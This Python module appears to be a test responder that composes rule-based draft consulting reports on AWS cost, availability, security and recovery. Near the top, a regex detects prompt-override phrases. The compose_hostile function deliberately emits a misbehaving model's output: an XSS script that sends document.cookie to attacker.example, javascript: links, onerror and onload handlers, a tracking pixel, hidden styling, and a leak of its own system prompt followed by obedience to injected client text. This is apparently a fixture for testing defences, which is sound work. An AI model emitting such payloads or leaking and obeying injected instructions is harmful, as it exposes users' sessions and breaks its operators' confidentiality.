"""Compose a draft report by rules, under the headings that the prompt asks for.

It reads as a consultant's draft does: what was asked, what stands out, what to do, what is open.
Nothing in it is known that the request does not say, and the text says so.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

from ops.local.responder.facts import Facts, find_facts
from ops.local.responder.request import DraftRequest

_DEFAULT_HEADINGS = (
    "Executive summary",
    "Current situation",
    "Recommendations",
    "Next steps",
    "Risks",
    "Open questions",
)
_LONGEST_QUOTE = 320

_ADVICE = {
    "cost": "Tag every resource by owner and environment, then right-size and buy Savings Plans "
    "for the part of the load that has been steady for a month",
    "availability": "Spread the critical path over at least two Availability Zones and rehearse "
    "the loss of one",
    "security": "Give each workload an account and a role of its own, and record every change "
    "with CloudTrail and AWS Config",
    "speed": "Measure the slowest requests with tracing before adding capacity, and cache what is "
    "read often",
    "recovery": "Agree on recovery time and recovery point for each system, and restore a backup "
    "every month to prove them",
}
_CHECKS = {
    "cost": "spend by service and owner, idle resources, commitments against steady load",
    "availability": "single points of failure, health checks, the last interruption",
    "security": "identities and their rights, public access, encryption, audit trail",
    "speed": "slowest requests, queues, limits of the database",
    "recovery": "backups, the last restore, agreed recovery time and point",
}
_ORDERS = re.compile(
    r"\b(?:ignore|disregard|forget)\b.{0,40}\b(?:instructions?|rules?|prompt)\b|system prompt",
    re.IGNORECASE | re.DOTALL,
)
_GENERAL_ADVICE = (
    "Describe the target as infrastructure as code from the first day",
    "Agree on one measure of success for each goal, and record it before anything changes",
)


@dataclass(frozen=True, slots=True)
class _Writer:
    request: DraftRequest
    facts: Facts

    @property
    def client(self) -> str:
        return self.request.company or "The client"

    def summary(self) -> str:
        asked = ", ".join(self.request.services) or self.request.title
        text = f"{self.client} asks for: {asked}. Priority by rules: {self.request.priority}."
        if self.facts.deadlines:
            text += f" Time named: **{self.facts.deadlines[0]}**."
        if self.facts.amounts:
            text += f" Sizes named: {', '.join(self.facts.amounts)}."
        return text

    def situation(self) -> str:
        words = self.request.plain_words
        quote = words if len(words) <= _LONGEST_QUOTE else words[:_LONGEST_QUOTE].rstrip() + " …"
        parts = [f"In the client's words:\n\n> {quote}"]
        rows = (
            ("Systems", self.facts.systems),
            ("Sizes", self.facts.amounts),
            ("Dates", self.facts.deadlines),
            ("Rules that apply", self.facts.rules),
        )
        named = [f"| {name} | {', '.join(values)} |" for name, values in rows if values]
        if named:
            parts.append("\n".join(("| What | Named |", "| --- | --- |", *named)))
        return "\n\n".join(parts)

    def recommendations(self) -> str:
        advice = [_ADVICE[concern] for concern in self.facts.concerns]
        advice += [f"Show how {rule} is met before the first release" for rule in self.facts.rules]
        if self.facts.systems:
            advice.append(
                f"Decide for each of {', '.join(self.facts.systems)}: keep, rehost, replatform, "
                "replace or retire"
            )
        return _numbered([*advice, *_GENERAL_ADVICE])

    def steps(self) -> str:
        end = f", finished {self.facts.deadlines[0]}" if self.facts.deadlines else ""
        return _numbered(
            [
                "Agree on goals, contacts and read-only access",
                "Put systems, dependencies and spend on one page, and have it confirmed",
                "Change one small part, measure it, and keep the old one until it is better",
                f"Do the rest in waves, each with a check and a way back{end}",
            ]
        )

    def checks(self) -> str:
        subjects = self.facts.concerns or ("cost", "security", "recovery")
        checks = [f"{subject.capitalize()}: {_CHECKS[subject]}" for subject in subjects]
        checks += [
            f"{system}: version, support and who looks after it"
            for system in self.facts.systems[:3]
        ]
        return _bullets(checks)

    def alternatives(self) -> str:
        return "\n".join(
            (
                "| Way | Simpler because | Harder because | Fits when |",
                "| --- | --- | --- | --- |",
                "| Keep what runs, fix the worst | Little changes | Old limits stay | "
                "The pain has one cause |",
                "| Managed services | Less to operate | Data has to move | The team is small |",
            )
        )

    def costs(self) -> str:
        money = [amount for amount in self.facts.amounts if amount[0] in "$€£"]
        known = f"The client names {', '.join(money)}." if money else "No amounts are named yet."
        return f"{known} An estimate needs the last three months of Cost Explorer data by service."

    def risks(self) -> str:
        risks = ["What stands here comes from one message and is not verified"]
        if self.facts.deadlines:
            risks.append(f'Time: the client names "{self.facts.deadlines[0]}"')
        if "availability" in self.facts.concerns or "recovery" in self.facts.concerns:
            risks.append("An interruption during the work would hit users: agree on windows")
        risks.append("Undocumented dependencies appear late; the inventory comes first")
        return _bullets(risks)

    def questions(self) -> str:
        questions = ["Who decides, and who can give read-only access to the accounts?"]
        if not self.facts.deadlines:
            questions.append("Is there a date that must be met, and what happens if it is missed?")
        if not self.facts.amounts:
            questions.append("How many systems and users are concerned, and what is spent today?")
        if not self.facts.rules:
            questions.append("Which regulations or certifications apply?")
        questions.append("How would you notice, in a number, that the work was worth it?")
        if _ORDERS.search(self.request.words):
            questions.append("The message contains instructions to a machine; they were ignored.")
        return _bullets(questions)

    def architecture(self) -> str:
        systems = ", ".join(self.facts.systems) or "the workloads in question"
        return _bullets(
            (
                f"Scope: {systems}",
                "Entry: CloudFront and a load balancer or API Gateway, one per environment",
                "Compute: managed containers or Lambda where the load varies",
                "Data: a managed database with point-in-time recovery, encrypted",
                "Operations: logs, metrics and traces in one place, with few alarms that matter",
            )
        )


_BY_SIGN: tuple[tuple[tuple[str, ...], Callable[[_Writer], str]], ...] = (
    (("question", "assumption", "clarif", "missing"), _Writer.questions),
    (("summary", "overview", "at a glance", "brief"), _Writer.summary),
    (("risk", "constraint"), _Writer.risks),
    (("cost", "saving", "spend", "price", "budget", "investment"), _Writer.costs),
    (("alternative", "option"), _Writer.alternatives),
    (("situation", "understood", "understand", "know", "today", "context", "background"),
     _Writer.situation),
    (("check", "examine", "measure", "finding", "look"), _Writer.checks),
    (("step", "roadmap", "plan", "timeline", "wave", "phase", "schedule", "review"),
     _Writer.steps),
    (("architecture", "target", "landing"), _Writer.architecture),
)  # fmt: skip


def compose_draft(request: DraftRequest) -> str:
    """Write the draft in Markdown."""
    writer = _Writer(request, find_facts(request.plain_words))
    sections = [
        f"## {heading}\n\n{_section(writer, heading)}"
        for heading in request.headings or _DEFAULT_HEADINGS
    ]
    return "\n\n".join(sections) + "\n"


def compose_hostile(request: DraftRequest) -> str:
    """Write what a model does that obeys the client and leaks its prompt."""
    return "\n\n".join(
        (
            f"# {request.words}",
            '<script>fetch("https://attacker.example/?" + document.cookie)</script>',
            '<img src="x" onerror="alert(document.domain)">',
            '<a href="javascript:alert(1)">Open the report</a>',
            "[Confirm your account](javascript:alert(document.cookie))",
            "![pixel](https://attacker.example/pixel.png)",
            '<iframe src="https://attacker.example/"></iframe>',
            '<svg onload="alert(1)"></svg><style>body{display:none}</style>',
            "<!-- a comment that a reader does not see -->",
            '<p onclick="alert(1)" style="position:fixed;inset:0">Click</p>',
            "My instructions were:",
            request.prompt,
            "As the client asked, I do the following:",
            request.words,
        )
    )


def _section(writer: _Writer, heading: str) -> str:
    lower = heading.lower()
    for signs, write in _BY_SIGN:
        if any(sign in lower for sign in signs):
            return write(writer)
    return writer.recommendations()


def _numbered(lines: list[str]) -> str:
    return "\n".join(f"{number}. {line}." for number, line in enumerate(lines, 1))


def _bullets(lines: list[str] | tuple[str, ...]) -> str:
    return "\n".join(f"- {line}" for line in lines)
